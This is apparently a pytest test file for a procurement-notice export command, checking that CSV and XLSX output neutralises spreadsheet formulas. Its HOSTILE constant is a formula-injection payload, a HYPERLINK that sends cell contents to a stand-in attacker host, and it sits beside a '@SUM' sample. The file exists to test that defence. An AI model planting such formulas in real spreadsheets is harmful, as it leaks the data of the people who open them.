"""``tenderflow export notices``: contract 4.1 as JSON lines; CSV/XLSX one row per notice, injection-safe."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from store.db import init_db, session_scope
from store.notices import NoticeRepository
from store.schema import Item, NoticeRecord, Party, Security

PROJECT_ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'


def export(db_url: str, fmt: str, out: Path) -> subprocess.CompletedProcess[str]:
    log = Path(db_url.split("///")[-1]).parent / "export.log" if db_url.startswith("sqlite") else Path("/tmp/tf.log")
    return subprocess.run(
        [sys.executable, "-m", "tenderflow.cli", "--db", db_url, "--log-file", str(log), "export",
         "notices", "--format", fmt, "--out", str(out)],
        cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120,
    )


@pytest.fixture
def stored(db_url: str) -> str:
    engine = init_db(db_url)
    record = NoticeRecord(
        source="eis44", number="0151300000125000101", version=2, law="44-FZ", title=HOSTILE, nmck="1234567.89",
        currency="RUB", deadline_at="2025-11-20T09:00:00+07:00", customer=Party(name="@SUM(1+1)", inn="5406123450"),
        application_security=Security(amount="12345.68", percent="1"),
        items=[Item(index=1, name="Коммутатор", okpd2="26.30.11.110", national_regime="ban"),
               Item(index=2, name="-ИБП", okpd2="26.20.40.110", national_regime="restriction")],
    )
    with session_scope(engine) as session:
        NoticeRepository(session).upsert(record)
    return db_url


def test_jsonl_is_the_canonical_record(stored: str, tmp_path: Path) -> None:
    out = tmp_path / "n.jsonl"
    assert export(stored, "jsonl", out).returncode == 0
    [line] = out.read_text(encoding="utf-8").splitlines()
    data = json.loads(line)
    assert NoticeRecord.model_validate(data).title == HOSTILE  # JSON keeps the text as published
    assert data["nmck"] == "1234567.89" and data["deadline_at"] == "2025-11-20T09:00:00+07:00"
    assert data["contract_security"] is None and data["items"][1]["national_regime"] == "restriction"


def test_csv_and_xlsx_neutralise_formulas(stored: str, tmp_path: Path) -> None:
    assert export(stored, "csv", tmp_path / "n.csv").returncode == 0
    [row] = list(csv.DictReader((tmp_path / "n.csv").open(encoding="utf-8")))
    assert row["title"] == "'" + HOSTILE and row["customer_name"] == "'@SUM(1+1)"
    assert row["nmck"] == "1234567.89" and row["items"] == "2" and row["national_regime"] == "ban;restriction"
    assert export(stored, "xlsx", tmp_path / "n.xlsx").returncode == 0
    sheet = openpyxl.load_workbook(tmp_path / "n.xlsx").active
    header = [cell.value for cell in sheet[1]]
    values = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert values["title"].startswith("'=") and sheet.cell(2, header.index("title") + 1).data_type == "s"


def test_missing_output_folder_is_one_clear_line(stored: str, tmp_path: Path) -> None:
    result = export(stored, "csv", tmp_path / "nowhere" / "n.csv")
    assert result.returncode == 2
    assert result.stderr.strip().startswith("Ошибка: нет папки для выгрузки") and "\n" not in result.stderr.strip()
